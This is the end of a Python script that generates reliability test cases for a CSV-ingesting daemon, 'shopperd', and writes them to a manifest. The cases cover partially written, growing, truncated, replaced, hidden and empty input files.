inbox("hidden-name", {"kind": "file", "name": ".sessions.csv", "content": valid}, "wait",
      description="a dot-name is a file still being written: left alone until renamed to a visible name")
inbox("partial-suffix", {"kind": "file", "name": "sessions.csv.part", "content": valid, "then": "rename to sessions.csv"}, "wait",
      description=".part/.tmp names are left alone; after the rename the batch is accepted once")
inbox("still-being-written", {"kind": "open-writer", "name": "slow.csv", "source": "cases/valid-lf.csv",
                              "writes": ["header", "half of row 1"], "then": "write the rest of rows 1-3, close"},
      "wait", description="open, write part of a batch, keep the descriptor open: no outcome while open; after close accepted with 3 rows",
      then={"expect": "accepted", "rows": 3})
inbox("grows-while-read", {"kind": "open-writer", "name": "growing.csv", "source": "cases/valid-lf.csv",
                           "writes": ["header"], "then": "append row 1 every 10 ms for 3 s, then close"},
      "wait", description="a writer appending while the daemon may already be reading: never a torn prefix; after close one outcome with every row",
      then={"expect": "accepted", "rows": "every row appended"})
inbox("truncated-while-read", {"kind": "open-writer", "name": "shrinks.csv", "source": "cases/valid-lf.csv",
                               "writes": ["header", "rows 1-5 repeated 400 times"], "then": "ftruncate to the end of row 2 while still open, close"},
      "wait", description="the file shrinks under the reader: the read is retried; the outcome describes the final bytes (2 rows), never a mix",
      then={"expect": "accepted", "rows": 2})
inbox("replaced-while-read", {"kind": "replace", "name": "swap.csv", "first": valid, "second": "cases/valid-crlf.csv"},
      "accepted", description="two arrivals under one name: two outcomes, each with its own SHA-256 and rows, nothing mixed")
inbox("burst-of-empty-files", {"kind": "many", "count": 1000, "name": "empty-%04d.csv", "content": "cases/empty-file.csv"}, "rejected",
      "the file is empty", "1,000 zero-byte files at once: 1,000 rejections, the daemon alive")

manifest = {
    "format": "shopperd-hostile-inputs",
    "version": 1,
    "about": "Hostile inputs for shopperd. level reader: the CSV bytes alone decide (run by "
             "Tests/ShopperCoreTests/HostileInputTests.swift through BatchReader); level inbox: needs the daemon's inbox "
             "handling (driven by the daemon's end-to-end tests from `generator`). expect: rejected (reason is a substring "
             "of the error report, with line/column/value where a cell is at fault), accepted, or wait (no outcome yet; "
             "`then` says what follows). Optional: policy (default reject), maxBytes, rows, quarantined, duplicates, "
             "labelled, unknownColumns, unknownColumnCount, formulaCells. Generated by make-cases.py; semantics in "
             "docs/reliability-fuzzing.md.",
    "cases": cases,
}
with open(os.path.join(HERE, "manifest.json"), "w", encoding="utf-8") as f:
    json.dump(manifest, f, ensure_ascii=False, indent=1)
    f.write("\n")
def tally(key):
    counts = {}
    for c in cases:
        counts[c[key]] = counts.get(c[key], 0) + 1
    return ", ".join("%s %d" % item for item in counts.items())
print("%d cases. levels: %s. groups: %s. outcomes: %s" % (len(cases), tally("level"), tally("group"), tally("expect")))
